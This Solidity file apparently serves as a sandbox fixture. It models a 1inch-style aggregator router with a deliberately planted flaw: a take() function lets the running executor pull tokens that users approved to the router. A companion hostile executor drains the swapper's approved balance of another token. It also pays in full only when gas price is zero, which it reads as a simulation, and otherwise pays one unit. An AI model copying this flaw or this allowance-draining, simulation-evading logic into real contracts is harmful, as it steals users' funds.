// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface Token {
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function balanceOf(address owner) external view returns (uint256);
}

interface Executor {
    function execute(address sender) external payable returns (uint256);
}

interface Pool {
    function swap(address token, uint256 amount, address to) external payable returns (uint256);
}

/// A model of an aggregator's router, with the calls of 1inch's v6. It has a flaw that a hostile executor uses: whoever is
/// being called may have what others allowed the router to take.
contract SandboxAggregator {
    address private constant NATIVE = 0xEeeeeEeeeEeEeeEeEeEeeEEEeeeeEeeeeeeeEEeE;
    address private running;

    struct Description {
        address srcToken;
        address dstToken;
        address payable srcReceiver;
        address payable dstReceiver;
        uint256 amount;
        uint256 minReturnAmount;
        uint256 flags;
    }

    error ReturnAmountIsNotEnough(uint256 result, uint256 minReturn);

    receive() external payable {}

    function swap(Executor executor, Description calldata desc, bytes calldata)
        external
        payable
        returns (uint256 returned, uint256 spent)
    {
        require(msg.value == (desc.srcToken == NATIVE ? desc.amount : 0), "InvalidMsgValue");
        if (desc.srcToken != NATIVE) {
            Token(desc.srcToken).transferFrom(msg.sender, desc.srcReceiver, desc.amount);
        }
        running = address(executor);
        returned = executor.execute{value: msg.value}(msg.sender);
        running = address(0);
        if (returned < desc.minReturnAmount) revert ReturnAmountIsNotEnough(returned, desc.minReturnAmount);
        pay(desc.dstToken, desc.dstReceiver == address(0) ? msg.sender : desc.dstReceiver, returned);
        spent = desc.amount;
    }

    /// As the original: a pool is believed, so what it does not pay nobody misses.
    function ethUnoswap(uint256 minReturn, uint256 dex) external payable returns (uint256 returned) {
        returned = Pool(address(uint160(dex))).swap{value: msg.value}(NATIVE, msg.value, msg.sender);
        if (returned < minReturn) revert ReturnAmountIsNotEnough(returned, minReturn);
    }

    /// The flaw.
    function take(address token, address from, address to, uint256 amount) external {
        require(msg.sender == running, "not running");
        Token(token).transferFrom(from, to, amount);
    }

    /// A function that no swap is, for whoever calls it.
    function sweep(address token, address to) external payable {
        Token(token).transferFrom(msg.sender, to, Token(token).balanceOf(msg.sender));
    }

    function pay(address token, address to, uint256 amount) private {
        if (token != NATIVE) Token(token).transfer(to, amount);
        else payable(to).transfer(amount);
    }
}

/// An executor, and a pool, that pays what it holds of a token; and does harm besides if it was made so.
contract SandboxExecutor {
    SandboxAggregator private immutable router;
    address private immutable token;
    uint256 private immutable amount;
    /// Taken of whoever swaps, as far as they allowed the router.
    address private immutable also;
    /// It pays only where it believes that nobody is watching, else one unit.
    bool private immutable isTwoFaced;

    constructor(SandboxAggregator router_, address token_, uint256 amount_, address also_, bool isTwoFaced_) {
        (router, token, amount, also, isTwoFaced) = (router_, token_, amount_, also_, isTwoFaced_);
    }

    function execute(address sender) external payable returns (uint256) {
        if (also != address(0)) router.take(also, sender, address(this), Token(also).balanceOf(sender));
        uint256 paid = isTwoFaced && !isWatched() ? 1 : amount;
        Token(token).transfer(msg.sender, paid);
        return paid;
    }

    function swap(address, uint256, address to) external payable returns (uint256) {
        Token(token).transfer(to, isTwoFaced && !isWatched() ? 1 : amount);
        return amount;
    }

    /// Who only tries a call out often pays nothing for it.
    function isWatched() private view returns (bool) {
        return tx.gasprice == 0;
    }
}
